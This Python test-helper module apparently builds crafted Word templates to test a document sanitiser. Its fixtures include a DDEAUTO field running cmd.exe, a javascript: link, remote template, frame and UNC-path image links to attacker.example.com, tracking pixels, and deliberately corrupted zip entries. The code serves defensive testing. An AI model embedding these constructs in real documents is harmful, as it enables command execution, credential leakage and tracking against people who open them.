"""Crafted Word templates: the shipped RAG template with a payload paragraph or outside links added."""

from __future__ import annotations

import html
import zipfile
from pathlib import Path

from tests.conftest import ROOT

SHIPPED = ROOT / "templates" / "action-plan-rag.docx"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_TYPE = R_NS + "/{}"


def crafted_template(
    path: Path,
    payload: str = "",
    *,
    replace: dict[str, bytes] | None = None,
    drop: tuple[str, ...] = (),
) -> Path:
    """Copy the shipped template to path with a paragraph holding payload (as typed in Word).

    replace: whole parts to write instead of (or as well as) the template's own; drop: parts
    to leave out.
    """
    replace = dict(replace or {})
    with zipfile.ZipFile(SHIPPED) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    if payload:
        paragraph = (
            '<w:p><w:r><w:t xml:space="preserve">'
            + html.escape(payload, quote=False)
            + "</w:t></w:r></w:p>"
        )
        document = parts["word/document.xml"].decode("utf-8")
        parts["word/document.xml"] = document.replace("<w:body>", "<w:body>" + paragraph, 1).encode(
            "utf-8"
        )
    parts.update(replace)
    for name in drop:
        parts.pop(name)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    return path


def rels(*relationships: tuple[str, str, str]) -> bytes:
    """A .rels part of (id, type name, target) relationships, all TargetMode="External"."""
    body = "".join(
        f'<Relationship Id="{rid}" Type="{REL_TYPE.format(kind)}" Target="{html.escape(target)}"'
        ' TargetMode="External"/>'
        for rid, kind, target in relationships
    )
    return (
        f"<?xml version='1.0' encoding='UTF-8' standalone='yes'?>"
        f'<Relationships xmlns="{REL_NS}">{body}</Relationships>'
    ).encode()


def _field(instruction: str, shown: str) -> str:
    """A paragraph holding one complex field (begin, instruction, separate, result, end)."""
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{html.escape(instruction, quote=False)}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{shown}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def linked_template(path: Path) -> Path:
    """A template whose settings, document and footer link outside the document.

    - settings: an attached template on a web server (fetched when Word opens the plan);
    - document: a hyperlink to a file share, a javascript: link, a plain https link
      (which must be kept), a linked picture and a file:// linked object;
    - footer: a linked picture on a UNC path and an INCLUDEPICTURE field;
    - web settings: a frame showing a page from a web server;
    - fields in the document: DDEAUTO (starts a program), one whose name is made by a
      nested field, and an internal HYPERLINK to a bookmark (which must be kept).
    """
    with zipfile.ZipFile(SHIPPED) as source:
        settings = source.read("word/settings.xml").decode("utf-8")
        document = source.read("word/document.xml").decode("utf-8")
        doc_rels = source.read("word/_rels/document.xml.rels").decode("utf-8")
        footer = source.read("word/footer1.xml").decode("utf-8")
        web = source.read("word/webSettings.xml").decode("utf-8")
    frame = '<w:frameset><w:frame><w:sourceFileName r:id="rIdW1"/></w:frame></w:frameset>'
    web = web.replace("</w:webSettings>", frame + "</w:webSettings>")
    head, _, rest = settings.partition(">")  # the XML declaration
    opening, _, tail = rest.partition(">")  # <w:settings ...>
    if "xmlns:r=" not in opening:
        opening += f' xmlns:r="{R_NS}"'
    settings = f'{head}>{opening}><w:attachedTemplate r:id="rIdT1"/>{tail}'
    links = (
        '<w:p><w:hyperlink r:id="rIdX1"><w:r><w:t>share</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdX2"><w:r><w:t>script</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdX3"><w:r><w:t>council website</w:t></w:r></w:hyperlink></w:p>'
    )
    fields = (
        _field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" ', "dde")
        + _field(' HYPERLINK \\l "_Toc1" ', "contents")
        + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE "LINK" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> Excel.Sheet "x" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>built</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    document = document.replace("<w:body>", "<w:body>" + links + fields, 1)
    footer = footer.replace(
        "</w:ftr>",
        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://tracker.example.com/f.png&quot; \\d ">'
        "<w:r><w:t>logo</w:t></w:r></w:fldSimple></w:p></w:ftr>",
    )
    extra = "".join(
        f'<Relationship Id="{rid}" Type="{REL_TYPE.format(kind)}" Target="{html.escape(target)}"'
        ' TargetMode="External"/>'
        for rid, kind, target in (
            ("rIdX1", "hyperlink", r"\\fileserver\share\plan.docx"),
            ("rIdX2", "hyperlink", "javascript:alert(1)"),
            ("rIdX3", "hyperlink", "https://www.example.gov.uk/equality"),
            ("rIdX4", "image", "http://tracker.example.com/pixel.png"),
            ("rIdX5", "oleObject", "file:///C:/Users/Public/data.xlsx"),
        )
    )
    doc_rels = doc_rels.replace("</Relationships>", extra + "</Relationships>")
    footer_rels = rels(("rIdF1", "image", r"\\attacker.example.com\share\logo.png"))
    settings_rels = rels(("rIdT1", "attachedTemplate", "http://attacker.example.com/normal.dotm"))
    web_rels = rels(("rIdW1", "frame", "http://attacker.example.com/frame.htm"))
    return crafted_template(
        path,
        replace={
            "word/settings.xml": settings.encode("utf-8"),
            "word/document.xml": document.encode("utf-8"),
            "word/_rels/document.xml.rels": doc_rels.encode("utf-8"),
            "word/_rels/settings.xml.rels": settings_rels,
            "word/_rels/footer1.xml.rels": footer_rels,
            "word/footer1.xml": footer.encode("utf-8"),
            "word/webSettings.xml": web.encode("utf-8"),
            "word/_rels/webSettings.xml.rels": web_rels,
        },
    )


# ---------------------------------------------------------- parts added to the shipped template

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CT_FOOTNOTES = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
CT_ENDNOTES = "application/vnd.openxmlformats-officedocument.wordprocessingml.endnotes+xml"
CT_COMMENTS = "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"


def complex_field(instruction: str, shown: str = "x") -> str:
    """The runs of one complex field (begin, instruction, separate, result, end)."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{html.escape(instruction, quote=False)}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{shown}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def simple_field(instruction: str, shown: str = "x") -> str:
    """A paragraph holding one simple field."""
    return (
        f'<w:p><w:fldSimple w:instr="{html.escape(instruction)}">'
        f"<w:r><w:t>{shown}</w:t></w:r></w:fldSimple></w:p>"
    )


def with_parts(
    path: Path,
    body: str = "",
    *,
    parts: dict[str, bytes] | None = None,
    content_types: dict[str, str] | None = None,
    document_rels: list[tuple[str, str, str]] | None = None,
    settings_insert: str = "",
) -> Path:
    """The shipped template with body XML first in the body, extra parts, types and relationships.

    content_types: part name (no leading slash) -> content type (an Override);
    document_rels: (id, type name, target) relationships of the main document (internal).
    """
    with zipfile.ZipFile(SHIPPED) as source:
        files = {info.filename: source.read(info) for info in source.infolist()}
    document = files["word/document.xml"].decode("utf-8")
    files["word/document.xml"] = document.replace("<w:body>", "<w:body>" + body, 1).encode()
    types = files["[Content_Types].xml"].decode("utf-8")
    for name, kind in (content_types or {}).items():
        override = f'<Override PartName="/{name}" ContentType="{kind}"/>'
        types = types.replace("</Types>", override + "</Types>")
    files["[Content_Types].xml"] = types.encode()
    rels_text = files["word/_rels/document.xml.rels"].decode("utf-8")
    for rid, kind, target in document_rels or []:
        rel = f'<Relationship Id="{rid}" Type="{REL_TYPE.format(kind)}" Target="{target}"/>'
        rels_text = rels_text.replace("</Relationships>", rel + "</Relationships>")
    files["word/_rels/document.xml.rels"] = rels_text.encode()
    if settings_insert:
        settings = files["word/settings.xml"].decode("utf-8")
        head, _, rest = settings.partition(">")
        opening, _, tail = rest.partition(">")
        files["word/settings.xml"] = f"{head}>{opening}>{settings_insert}{tail}".encode()
    files.update(parts or {})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in files.items():
            out.writestr(name, data)
    return path


def notes_part(kind: str, note_xml: str) -> bytes:
    """A footnotes or endnotes part (kind 'footnote' or 'endnote') with note 1 holding note_xml."""
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:{kind}s xmlns:w="{W_NS}">'
        f'<w:{kind} w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:{kind}>'
        f'<w:{kind} w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/>'
        f"</w:r></w:p></w:{kind}>"
        f'<w:{kind} w:id="1">{note_xml}</w:{kind}></w:{kind}s>'
    ).encode()


def with_notes(path: Path, kind: str, note_xml: str) -> Path:
    """The shipped template with a footnote or endnote (note_xml: its paragraphs) referenced once."""
    content_type = CT_FOOTNOTES if kind == "footnote" else CT_ENDNOTES
    return with_parts(
        path,
        f'<w:p><w:r><w:t>see</w:t></w:r><w:r><w:{kind}Reference w:id="1"/></w:r></w:p>',
        parts={f"word/{kind}s.xml": notes_part(kind, note_xml)},
        content_types={f"word/{kind}s.xml": content_type},
        document_rels=[(f"rId{kind}", f"{kind}s", f"{kind}s.xml")],
    )


# ------------------------------------------------------- zip entries damaged at the byte level

_HEADERS = ((b"PK\x03\x04", 6, 26, 30), (b"PK\x01\x02", 8, 28, 46))  # sig, flags, name len, name


def _patch_entry(data: bytearray, name: bytes, flag: int, new_name: bytes | None = None) -> None:
    for signature, flag_at, length_at, name_at in _HEADERS:
        i = 0
        while (i := data.find(signature, i)) >= 0:
            length = int.from_bytes(data[i + length_at : i + length_at + 2], "little")
            if data[i + name_at : i + name_at + length] == name:
                flags = int.from_bytes(data[i + flag_at : i + flag_at + 2], "little") | flag
                data[i + flag_at : i + flag_at + 2] = flags.to_bytes(2, "little")
                if new_name is not None:
                    data[i + name_at : i + name_at + length] = new_name
            i += 4


def encrypted_entry(source: Path, path: Path, name: str) -> Path:
    """A copy of source whose entry name has the 'encrypted' flag set (its bytes unchanged)."""
    data = bytearray(source.read_bytes())
    _patch_entry(data, name.encode(), 0x1)
    path.write_bytes(bytes(data))
    return path


def damaged_entry(source: Path, path: Path, name: str) -> Path:
    """A copy of source whose entry name has its first compressed bytes overwritten."""
    data = bytearray(source.read_bytes())
    with zipfile.ZipFile(source) as archive:
        info = archive.getinfo(name)
    offset = info.header_offset
    start = offset + 30 + int.from_bytes(data[offset + 26 : offset + 28], "little")
    start += int.from_bytes(data[offset + 28 : offset + 30], "little")
    data[start : start + min(64, info.compress_size)] = b"\xff" * min(64, info.compress_size)
    path.write_bytes(bytes(data))
    return path


def badly_named_entry(source: Path, path: Path, name: str) -> Path:
    """A copy of source whose entry name ends in bytes that are not UTF-8, flagged as UTF-8."""
    data = bytearray(source.read_bytes())
    _patch_entry(data, name.encode(), 0x800, name.encode()[:-2] + b"\xff\xfe")
    path.write_bytes(bytes(data))
    return path
